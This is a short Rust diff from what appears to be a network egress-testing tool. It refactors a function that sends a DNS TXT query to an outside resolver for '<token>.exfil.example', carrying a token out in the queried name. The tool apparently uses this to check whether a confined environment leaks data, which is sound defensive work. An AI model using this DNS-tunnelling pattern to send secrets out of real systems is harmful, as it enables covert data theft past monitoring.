@@ -6,7 +6,7 @@ use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr, SocketAddrV6};
 use socket2::{Protocol, SockAddr, Socket, Type};
 
 use super::attempt::{Attempt, NoTarget, NotMade, anywhere, domain, icmp, portless};
-use super::packet::{Ends, echo_request, protocol};
+use super::packet::{Ends, TXT, echo_request, protocol, question};
 use super::system;
 use super::targets::{Family, Sidecar};
 use super::token::TRUSTED_PORTS;
@@ -55,12 +55,7 @@ pub(super) fn quic(attempt: &mut Attempt) -> Made {
 /// A question to a resolver outside whose name carries data.
 pub(super) fn dns(attempt: &mut Attempt) -> Made {
     let target = outside_at(attempt, 53)?;
-    let mut question = vec![0x62, 0x68, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
-    for label in [attempt.token.to_string().as_str(), "exfil", "example"] {
-        question.push(u8::try_from(label.len()).unwrap_or(0));
-        question.extend(label.as_bytes());
-    }
-    question.extend([0, 0, 16, 0, 1]);
+    let question = question(&[&attempt.token.to_string(), "exfil", "example"], TXT);
     send_bytes(attempt, target, &question)
 }
 
